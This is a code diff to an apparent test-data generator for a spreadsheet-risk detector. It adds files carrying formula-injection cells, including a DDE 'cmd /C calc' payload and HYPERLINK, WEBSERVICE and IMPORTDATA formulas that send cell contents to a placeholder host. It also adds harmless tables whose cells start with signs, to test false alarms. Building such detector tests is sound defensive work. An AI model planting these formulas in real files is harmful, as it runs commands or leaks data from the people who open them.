@@ -324,6 +324,27 @@ def unseen_in_workbook(rng: Rng) -> tuple[FileContent, str]:
     ), "hidden_content"
 
 
+def unseen_formula(rng: Rng) -> tuple[FileContent, str]:
+    """Tables with a cell that acts where they are opened."""
+    acting = rng.choice(
+        [
+            f"{rng.choice('=+-@')}{rng.choice(['cmd', 'MSEXCEL', 'powershell'])}|' /C calc'!A{rng.randrange(9)}",
+            f'=HYPERLINK("http://example.org/?x="&A{rng.randrange(2, 9)},"{rng.choice(["meer", "klik"])}")',
+            f'=WEBSERVICE("http://example.org/"&B{rng.randrange(2, 9)})',
+            '=IMPORTDATA(CONCAT("http://example.org/",A1))',
+        ]
+    )
+    rows = _counts(rng)
+    if rng.random() < 0.5:
+        rows[rng.randrange(1, len(rows))][0] = acting
+        return _csv(rng, [[f'"{str(cell).replace(chr(34), chr(34) * 2)}"' for cell in row] for row in rows]), "hidden_content"
+
+    def write(workbook: Workbook) -> None:
+        workbook["blad"].cell(rng.randrange(2, 9), rng.randrange(1, 5), "=" + acting[1:])
+
+    return _xlsx(rows, write), "hidden_content"
+
+
 def unseen_in_picture(rng: Rng) -> tuple[FileContent, str]:
     buffer = io.BytesIO()
     kind = rng.randrange(4)
@@ -374,6 +395,7 @@ CAUGHT: dict[str, Caught] = {
     "minimum or maximum": extremes,
     "residuals": residual_extremes,
     "unseen: workbook": unseen_in_workbook,
+    "unseen: formula": unseen_formula,
     "unseen: picture": unseen_in_picture,
     "unseen: page": unseen_in_page,
 }
@@ -542,6 +564,14 @@ def fine_whole(rng: Rng) -> FileContent:
     return _written(rng, frame)
 
 
+def fine_signs(rng: Rng) -> FileContent:
+    """Tables whose labels and cells begin as formulas do: bullets, plus and minus, what is withheld, estimates below zero."""
+    label = ["- man", "+ 65 jaar", "- w.o. overig (incl. onbekend)", "+/- 5 km", "=", "-", "-2 log(L)", "@werk", "- <10 | >=10", "+31 6", "-1"]
+    rows: Grid = [["kenmerk", "n", "verschil"]]
+    rows += [[text, level(rng), rng.choice(["-", "+", f"-{rng.random():.2f}***", f"+{rng.randrange(9)}", f"(-{rng.random():.2f})"])] for text in label]
+    return rng.choice([_csv(rng, rows), _xlsx([[f"'{c}" if c == "=" else c for c in row] for row in rows])])
+
+
 HARMLESS: dict[str, Harmless] = {
     "counts": fine_counts,
     "cube": fine_cube,
@@ -554,5 +584,6 @@ HARMLESS: dict[str, Harmless] = {
     "pictures": fine_picture,
     "time series": fine_series,
     "whole numbers": fine_whole,
+    "signs": fine_signs,
 }
 """Makers of harmless files."""
